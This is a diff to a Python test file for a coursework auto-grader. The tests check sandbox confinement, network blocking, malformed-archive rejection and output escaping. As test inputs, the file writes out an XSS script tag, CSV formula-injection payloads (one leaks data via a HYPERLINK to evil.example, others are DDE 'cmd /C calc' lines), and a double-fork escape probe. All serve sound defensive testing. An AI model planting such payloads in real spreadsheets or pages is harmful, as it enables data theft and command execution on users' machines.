@@ -16,7 +16,8 @@ import torch
 import torch.nn.functional as F
 
 from coursework.grading.definitions import read_definitions, uses_reference
-from coursework.grading.report import feedback_html, feedback_markdown
+from coursework.grading.records import ExerciseResult, Record, Status
+from coursework.grading.report import code, feedback_html, feedback_markdown
 from coursework.grading.sandbox import Limits, wrap
 from coursework.grading.submissions import (
     SubmissionsError,
@@ -152,6 +153,7 @@ def test_sandbox_file_size_limit_stops_big_writes(tmp_path: Path) -> None:
 def test_feedback_shows_hidden_cases_by_number_only() -> None:
     record = {
         "student": "s1",
+        "sha256": "0",
         "exercises": [
             {
                 "exercise": "demo.f",
@@ -178,11 +180,73 @@ def test_feedback_shows_hidden_cases_by_number_only() -> None:
             }
         ],
     }
-    md = feedback_markdown(record)
+    md = feedback_markdown(Record.from_json(record))
     assert "hidden case 1" in md and "secret edge case" not in md
     assert "Hint: look at <b>" in md
     page = feedback_html(md, "s1")
     assert "&lt;b&gt;" in page and "<li>" in page
+
+
+FORGED = "x\n\n## ✓ `demo.softplus`: 2 / 2\n\n<script>alert(1)</script> **PASS** ``"
+
+
+def test_student_text_cannot_fake_markup_in_feedback() -> None:
+    """An exception message that tries a heading, HTML and a code fence stays text."""
+    record = Record.from_json(
+        {
+            "student": "s1",
+            "sha256": "0",
+            "invalid": FORGED,
+            "exercises": [
+                {
+                    "exercise": "demo.softplus",
+                    "status": "error",
+                    "points": 0.0,
+                    "max_points": 2.0,
+                    "seconds": 0.0,
+                    "message": FORGED,
+                    "cases": [{"name": FORGED, "status": "error", "message": FORGED}],
+                }
+            ],
+        }
+    )
+    page = feedback_html(feedback_markdown(record), "s1")
+    assert page.count("<h2>") == 1  # the exercise's own heading only
+    assert "<script>" not in page and "<strong>PASS" not in page
+    assert "&lt;script&gt;" in page
+    assert code("a`b") == "``a`b``" and code("`x") == "`` `x ``"
+
+
+def test_records_round_trip_through_json() -> None:
+    record = Record.from_json(
+        {
+            "student": "s1",
+            "sha256": "ab",
+            "exercises": [
+                {
+                    "exercise": "e",
+                    "status": "kernel-died",
+                    "points": 0,
+                    "max_points": 2,
+                    "seconds": 1,
+                    "message": "m",
+                    "cases": [{"name": "c", "status": "passed", "message": ""}],
+                }
+            ],
+            "execution": {
+                "events": [{"cell": 1, "kind": "timeout", "message": "t"}],
+                "startup_seconds": 2.5,
+            },
+            "phases": {"kernel start": 2.5, "cells": 4},
+        }
+    )
+    assert record.exercises[0].status is Status.KERNEL_DIED
+    assert record.phases == {"kernel start": 2.5, "cells": 4.0}
+    assert record.execution is not None and record.execution.startup_seconds == 2.5
+    assert Record.from_json(record.to_json()) == record
+    assert [str(s) for s in Status][:3] == ["passed", "failed", "error"]
+    with pytest.raises(ValueError):
+        ExerciseResult.from_json({**record.exercises[0].to_json(), "status": "bogus"})
 
 
 def test_remote_gradient_matches_in_process(tmp_path: Path) -> None:
@@ -284,7 +348,7 @@ def run_confined(
     """Run the probe under ``limits``; what it could do."""
     import json
 
-    from coursework.grading.isolation import package_dir
+    from coursework.grading.oscalls import package_dir
 
     scratch = tmp_path / "scratch"
     scratch.mkdir()
@@ -293,7 +357,7 @@ def run_confined(
     secret.write_text("secret")
     os.chmod(secret.parent, 0o700)
     if limits.uid is not None:
-        from coursework.grading.isolation import give_to
+        from coursework.grading.oscalls import give_to
 
         give_to(scratch, limits.uid)
     command = [python, "-c", PROBE, str(scratch), str(secret), str(package_dir())]
@@ -309,7 +373,7 @@ def run_confined(
 
 
 def test_landlock_confines_reads_writes_and_signals(tmp_path: Path) -> None:
-    from coursework.grading.isolation import landlock_abi
+    from coursework.grading.oscalls import landlock_abi
 
     abi = landlock_abi()
     if abi < 1:
@@ -322,8 +386,47 @@ def test_landlock_confines_reads_writes_and_signals(tmp_path: Path) -> None:
         assert seen["signal_parent"] == "PermissionError"
 
 
+CONNECT = """
+import socket, sys
+try:
+    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5).close()
+    print("connected")
+except OSError as exc:
+    print("refused", type(exc).__name__)
+"""
+
+
+def test_landlock_closes_tcp_unless_network(tmp_path: Path) -> None:
+    """Issue 22 (1) where namespaces are refused: Landlock (ABI 4) alone stops
+    student code from reaching a classmate's kernel over TCP."""
+    import socket
+
+    from coursework.grading.oscalls import landlock_abi
+
+    if landlock_abi() < 4:
+        pytest.skip("Landlock's network rules need ABI 4 (Linux 6.7)")
+    seen = {}
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        port = str(listener.getsockname()[1])
+        for network in (False, True):
+            scratch = tmp_path / f"scratch-{network}"
+            scratch.mkdir()
+            limits = Limits(process_margin=None, isolation="landlock", network=network)
+            done = subprocess.run(
+                wrap([sys.executable, "-c", CONNECT, port], limits, scratch),
+                capture_output=True,
+                text=True,
+                cwd=scratch,
+                timeout=120,
+            )
+            assert done.returncode == 0, done.stderr
+            seen[network] = done.stdout.strip()
+    assert seen[False] == "refused PermissionError"
+    assert seen[True] == "connected"
+
+
 def test_own_user_confines_reads_writes_and_signals() -> None:
-    from coursework.grading.isolation import pick_uid
+    from coursework.grading.oscalls import pick_uid
 
     if os.geteuid() != 0:
         pytest.skip("switching users needs root")
@@ -352,7 +455,7 @@ def test_isolation_needs_a_scratch_folder() -> None:
 
 
 def test_probe_reports_what_it_found() -> None:
-    from coursework.grading.isolation import MODES, probe
+    from coursework.grading.probe import MODES, probe
 
     found = probe()
     assert found.mode in MODES
@@ -430,3 +533,235 @@ def test_child_over_memory_at_its_deadline_is_a_memory_death(tmp_path: Path) -> 
         assert "memory" in child.why
     finally:
         child.stop()
+
+
+LEAVES = {"records", "signing", "wire", "oscalls", "integrity"}
+
+
+def test_grading_imports_run_one_way() -> None:
+    """Module-level imports only, no cycle, and the leaves import no grading module."""
+    import ast
+
+    folder = Path(__file__).resolve().parents[2] / "coursework" / "grading"
+    graph: dict[str, set[str]] = {}
+    for path in folder.glob("*.py"):
+        tree = ast.parse(path.read_text())
+        deps = set()
+        for node in ast.walk(tree):
+            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith(
+                "coursework.grading"
+            ):
+                assert node.col_offset == 0, f"{path.name}: import inside a function"
+                parts = node.module.split(".")  # type: ignore[union-attr]
+                deps |= {parts[2]} if len(parts) > 2 else {a.name for a in node.names}
+        graph[path.stem] = deps
+    for leaf in LEAVES:
+        assert graph[leaf] == set(), (leaf, graph[leaf])
+    done: set[str] = set()
+
+    def visit(name: str, path: tuple[str, ...]) -> None:
+        assert name not in path, f"import cycle: {' -> '.join((*path, name))}"
+        if name not in done:
+            for dep in graph.get(name, ()):
+                visit(dep, (*path, name))
+            done.add(name)
+
+    for name in graph:
+        visit(name, ())
+
+
+def _zip(path: Path, entries: dict[str, str], encrypted: bool = False) -> Path:
+    import zipfile
+
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, text in entries.items():
+            zf.writestr(name, text)
+    if encrypted:  # zipfile cannot write one: set the flag in every header
+        data = bytearray(path.read_bytes())
+        for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+            at = data.find(signature)
+            while at >= 0:
+                data[at + flags] |= 0x1
+                at = data.find(signature, at + 1)
+        path.write_bytes(bytes(data))
+    return path
+
+
+def test_zip_is_checked_before_anything_is_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Issue 22 (9): too large in all, encrypted or corrupt: refused, nothing left."""
+    import coursework.grading.submissions as submissions
+
+    monkeypatch.setattr(submissions, "MAX_ZIP_BYTES", 1000)
+    big = _zip(tmp_path / "big.zip", {f"s{i}/n.ipynb": "x" * 600 for i in range(3)})
+    locked = _zip(
+        tmp_path / "locked.zip", {"a.ipynb": "{}", "b.ipynb": "{}"}, "b.ipynb"
+    )
+    corrupt = _zip(tmp_path / "corrupt.zip", {"a.ipynb": "{}", "b.ipynb": "y" * 500})
+    data = bytearray(corrupt.read_bytes())
+    at = data.find(b"b.ipynb") + len(b"b.ipynb")  # b's local header, then its data
+    data[at : at + 8] = bytes(8)  # b's deflated bytes, now garbage
+    corrupt.write_bytes(bytes(data))
+    for archive, why in [
+        (big, "unpacks to more than"),
+        (locked, "encrypted"),
+        (corrupt, "cannot be read"),
+    ]:
+        into = tmp_path / f"into-{archive.stem}"
+        into.mkdir()
+        with pytest.raises(SubmissionsError, match=why):
+            extract_zip(archive, into)
+        assert list(into.iterdir()) == [], archive.name
+
+
+def test_crafted_notebooks_are_invalid_not_a_crash(tmp_path: Path) -> None:
+    """Issue 22 (7): deep nesting, wrong types: a reason, never an exception."""
+    cases = {
+        "deep.ipynb": '{"a":' * 100_000 + "1" + "}" * 100_000,
+        "deep_list.ipynb": "[" * 50_000 + "]" * 50_000,
+        "source.ipynb": '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, '
+        '"cells": [{"cell_type": "code", "source": [1, 2], "metadata": {}, '
+        '"outputs": [], "execution_count": null}]}',
+    }
+    for name, text in cases.items():
+        path = tmp_path / name
+        path.write_text(text)
+        nb, why = read_notebook(path)
+        assert nb is None and why, name
+
+
+FORMULAS = [  # the cells of issue 22 (6), and the characters some programs also run
+    '=HYPERLINK("http://evil.example/?leak","click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "  =1+1",
+    "\t=1+1",
+    "\r\n=1+1",
+]
+
+
+def test_csv_cells_from_student_text_never_start_a_formula(tmp_path: Path) -> None:
+    """Issue 22 (6): every student message reaches results.csv inert."""
+    import csv
+
+    from coursework.grading.report import neutral, write_gradebook
+
+    exercises = [
+        ExerciseResult(f"e{i}", Status.ERROR, 0.0, 1.0, 0.0, text)
+        for i, text in enumerate(FORMULAS)
+    ]
+    write_gradebook(
+        tmp_path, [Record("s1", "ab", exercises)], [e.exercise for e in exercises]
+    )
+    with open(tmp_path / "results.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["message"] for r in rows] == ["'" + t for t in FORMULAS]
+    for name in ("grades.csv", "results.csv", "summary.csv"):
+        with open(tmp_path / name, newline="", encoding="utf-8") as f:
+            for row in csv.reader(f):
+                for cell in row:
+                    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t"))
+    assert neutral("-0.5 points") == "'-0.5 points"
+    assert neutral("name 'x' is not defined") == "name 'x' is not defined"
+
+
+def test_network_is_announced_when_open() -> None:
+    """--network: the isolation line, on screen and in every feedback, says so."""
+    from coursework.grading.probe import Isolation
+
+    closed = Isolation("landlock", 7, True, namespaces=True)
+    opened = Isolation("landlock", 7, True, namespaces=True, network=True)
+    assert "no network" in closed.describe() and "--network" not in closed.describe()
+    assert "network open (--network)" in opened.describe()
+    assert "no network" not in opened.describe()
+    process = Isolation("process", 0, network=True)
+    assert process.describe().endswith("network open (--network)")
+    command = wrap(
+        ["true"], Limits(isolation="landlock", namespaces=True, network=True), Path("/")
+    )
+    assert "--network" in command
+    closed_command = wrap(
+        ["true"], Limits(isolation="landlock", namespaces=True), Path("/")
+    )
+    assert "--network" not in closed_command
+
+
+def test_display_updates_count_in_the_output_cap() -> None:
+    """Issue 22 (5), without a kernel: twenty displays share an id, then one
+    big update would rewrite them all; it is refused and marked instead."""
+    from coursework.grading.execute import TRUNCATED, CappedClient
+
+    def message(kind: str, text: str) -> dict[str, object]:
+        content = {
+            "data": {"text/plain": text},
+            "metadata": {},
+            "transient": {"display_id": "same"},
+        }
+        header = {"msg_type": kind}
+        return {
+            "header": header,
+            "parent_header": {"msg_id": "run"},
+            "msg_type": kind,
+            "content": content,
+        }
+
+    nb = notebook("displays")
+    client = CappedClient(nb)
+    client.reset_execution_trackers()  # what nbclient does before a run
+    client.clear_before_next_output = False  # and before each cell
+    client.output_bytes = 4096
+    outs = nb.cells[0].outputs
+    for _ in range(20):
+        client.output(outs, message("display_data", "'x'"), "same", 0)
+    assert len(outs) == 20
+    client._update_display_id("same", message("update_display_data", "y" * 1000))
+    assert client.truncated
+    assert [o["data"]["text/plain"] for o in outs[:20]] == ["'x'"] * 20
+    assert outs[-1]["text"] == TRUNCATED
+    small = CappedClient(notebook("displays"))  # within the cap, updates apply
+    small.reset_execution_trackers()
+    small.clear_before_next_output = False
+    outs = small.nb.cells[0].outputs
+    small.output(outs, message("display_data", "'x'"), "same", 0)
+    small._update_display_id("same", message("update_display_data", "'y'"))
+    assert outs[0]["data"]["text/plain"] == "'y'" and not small.truncated
+
+
+ORPHAN = """
+import os, sys, time
+from coursework.grading.oscalls import become_subreaper, kill_descendants
+assert become_subreaper()
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("sleep", ["sleep", "300.77"])
+    os._exit(0)
+os.wait()
+time.sleep(0.5)
+print(kill_descendants(), flush=True)
+"""
+
+
+def test_orphans_stay_below_the_worker_and_are_killed() -> None:
+    """Issue 22 (2) without root, cgroup or namespaces: the worker reaps the
+    job's orphans, so a double-forked ``setsid`` process dies with the job."""
+
+    def alive() -> list[str]:
+        found = []
+        for entry in Path("/proc").iterdir():
+            try:
+                argv = (entry / "cmdline").read_bytes().split(b"\0")
+            except OSError:
+                continue
+            if argv[:2] == [b"sleep", b"300.77"]:
+                found.append(entry.name)
+        return found
+
+    done = subprocess.run(
+        [sys.executable, "-c", ORPHAN], capture_output=True, text=True, timeout=120
+    )
+    assert done.returncode == 0, done.stderr
+    assert int(done.stdout) == 1
+    assert alive() == []
